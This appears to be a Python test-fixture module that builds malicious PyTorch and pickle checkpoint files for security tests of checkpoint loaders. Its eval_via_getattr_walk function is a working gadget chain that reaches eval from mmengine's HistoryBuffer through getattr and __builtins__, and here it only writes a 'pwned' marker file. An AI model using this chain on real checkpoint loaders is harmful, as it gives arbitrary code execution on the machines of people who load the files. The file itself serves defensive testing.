"""Hand-built checkpoint files for the attack tests: raw pickle opcodes, legacy torch files and
zip archives, so that every byte a reader sees is chosen by the test."""
import io
import pickle
import struct
import zipfile
from typing import Dict

import torch

PROTO_2, STOP, MARK, TUPLE, TUPLE2, TUPLE3 = b'\x80\x02', b'.', b'(', b't', b'\x86', b'\x87'
REDUCE, BUILD, NEWOBJ, EMPTY_TUPLE, EMPTY_DICT, SETITEM = b'R', b'b', b'\x81', b')', b'}', b's'


def op_global(path: str) -> bytes:
    """GLOBAL of ``'module.name'`` (split at the last dot)."""
    module, name = path.rsplit('.', 1)
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def op_str(text: str) -> bytes:
    data = text.encode('utf-8')
    return b'X' + struct.pack('<I', len(data)) + data


def op_put(index: int) -> bytes:
    return b'q' + bytes([index])


def op_get(index: int) -> bytes:
    return b'h' + bytes([index])


def getattr_call(owner: bytes, name: str) -> bytes:
    """``getattr(<owner>, name)`` through the pickled ``builtins.getattr``."""
    return op_global('builtins.getattr') + owner + op_str(name) + TUPLE2 + REDUCE


def new_namespace() -> bytes:
    return op_global('argparse.Namespace') + EMPTY_TUPLE + NEWOBJ


def eval_via_getattr_walk(code: str) -> bytes:
    """A pickle that evaluates ``code`` wherever ``getattr`` is a plain getattr:

    ``getattr(HistoryBuffer, 'mean')`` -> ``.__builtins__`` (the builtins dict) -> BUILD a
    Namespace with it (``__dict__.update``: the Namespace now has an ``eval`` attribute) ->
    ``getattr(ns, 'eval')`` -> BUILD a second Namespace with ``{'__setstate__': eval}`` -> BUILD
    it again with ``code``: ``ns.__setstate__(code)`` is ``eval(code)``.
    """
    history_buffer = op_global('mmengine.logging.history_buffer.HistoryBuffer')
    builtins_dict = getattr_call(getattr_call(history_buffer, 'mean'), '__builtins__')
    return (PROTO_2 + new_namespace() + builtins_dict + BUILD + op_put(1) +
            getattr_call(op_get(1), 'eval') + op_put(2) +
            new_namespace() + EMPTY_DICT + op_str('__setstate__') + op_get(2) + SETITEM + BUILD +
            op_str(code) + BUILD + STOP)


def write_marker_code(marker) -> str:
    return f'open({str(marker)!r}, "w").write("pwned")'


def legacy_file(data_pickle: bytes) -> bytes:
    """A legacy (``_use_new_zipfile_serialization=False``) torch file around ``data_pickle``."""
    sys_info = dict(protocol_version=torch.serialization.PROTOCOL_VERSION, little_endian=True,
                    type_sizes=dict(short=2, int=4, long=4))
    return (pickle.dumps(torch.serialization.MAGIC_NUMBER, protocol=2) +
            pickle.dumps(torch.serialization.PROTOCOL_VERSION, protocol=2) +
            pickle.dumps(sys_info, protocol=2) + data_pickle + pickle.dumps([], protocol=2))


def zip_archive(records: Dict[str, bytes]) -> bytes:
    """A zip archive of uncompressed ``records`` (full names), in the given order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_STORED) as archive:
        for name, data in records.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def torch_zip(data_pickle: bytes, **extra_records: bytes) -> bytes:
    """A torch zip checkpoint (``archive/data.pkl``, ``version``, ``byteorder``) of a pickle
    without tensors, plus ``extra_records`` (name under ``archive/`` -> bytes)."""
    records = {'archive/data.pkl': data_pickle, 'archive/version': b'3\n',
               'archive/byteorder': b'little'}
    records.update({f'archive/{name}': data for name, data in extra_records.items()})
    return zip_archive(records)
